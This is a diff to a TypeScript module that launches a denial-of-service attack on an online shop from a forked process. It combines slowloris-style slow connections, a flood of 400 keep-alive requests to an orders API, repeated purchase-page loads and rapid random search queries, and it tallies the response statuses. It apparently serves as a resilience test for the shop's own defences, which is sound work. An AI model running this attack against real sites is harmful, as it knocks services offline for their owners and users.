@@ -5,28 +5,24 @@ import { connect, type Socket } from 'node:net'
 import { fileURLToPath } from 'node:url'
 
 /** How often each status was answered, by kind of request. `closed` is a connection that the shop refused or ended. */
-export type Answers = Record<string, Record<string, number>>
+type Answers = Record<string, Record<string, number>>
 type Target = { url: string; address: string }
-type Order = 'report' | 'flood' | 'stop'
 
 const connections = 400
 const searchesPerSecond = 60
 const pagesAtOnce = 50
 const slowConnections = 200
 
-/**
- * Begins to attack the shop, which must trust its proxy, from one address and in a process of its own: at first with slow
- * connections only.
- */
-export function startAttack(url: string, { address }: { address: string }) {
-  const target: Target = { url, address }
+/** Attacks the shop, which must trust its proxy, from one address and in a process of its own. */
+export function startAttack(target: Target) {
   const child = fork(fileURLToPath(import.meta.url), [JSON.stringify(target)])
-  const ask = async (message: Order): Promise<Answers> => {
-    child.send(message)
-    const [answers] = await once(child, 'message')
-    return answers
+  return {
+    async stop(): Promise<Answers> {
+      child.send('stop')
+      const [answers] = await once(child, 'message')
+      return answers
+    },
   }
-  return { answers: () => ask('report'), flood: () => ask('flood'), stop: () => ask('stop') }
 }
 
 function attack({ url, address }: Target) {
@@ -61,20 +57,17 @@ function attack({ url, address }: Target) {
       sendSlowly(connect(to), each % 2 ? slowHeaders : slowBody(headers), status => count('slow', status)),
     )
 
-  const flood = () => {
-    const many = new Agent({ keepAlive: true, maxSockets: connections })
-    for (let each = 0; each < connections; each++)
-      void repeat(() => get('connections', '/api/orders/countries/', many))
+  const many = new Agent({ keepAlive: true, maxSockets: connections })
+  for (let each = 0; each < connections; each++)
+    void repeat(() => get('connections', '/api/orders/countries/', many))
 
-    const pages = new Agent({ keepAlive: true, maxSockets: pagesAtOnce })
-    for (let each = 0; each < pagesAtOnce; each++)
-      void repeat(() => get('pages', '/orders/software/astra/buy/?servers=5', pages))
+  const pages = new Agent({ keepAlive: true, maxSockets: pagesAtOnce })
+  for (let each = 0; each < pagesAtOnce; each++)
+    void repeat(() => get('pages', '/orders/software/astra/buy/?servers=5', pages))
 
-    const searches = new Agent({ keepAlive: true })
-    setInterval(() => void get('searches', `/api/help/?q=${search()}`, searches), 1000 / searchesPerSecond)
-  }
-
-  return { answers, flood }
+  const searches = new Agent({ keepAlive: true })
+  setInterval(() => void get('searches', `/api/help/?q=${search()}`, searches), 1000 / searchesPerSecond)
+  return answers
 }
 
 /** 200 characters of two-letter words, other ones each time. */
@@ -113,12 +106,7 @@ function sendSlowly(
 }
 
 if (import.meta.main) {
-  const { answers, flood } = attack(JSON.parse(process.argv[2] ?? ''))
-  process.on('message', (message: Order) => {
-    if (message === 'flood') flood()
-    process.send?.(answers, () => {
-      if (message === 'stop') process.exit()
-    })
-  })
+  const answers = attack(JSON.parse(process.argv[2] ?? ''))
+  process.on('message', () => process.send?.(answers, () => process.exit()))
   process.once('disconnect', () => process.exit())
 }
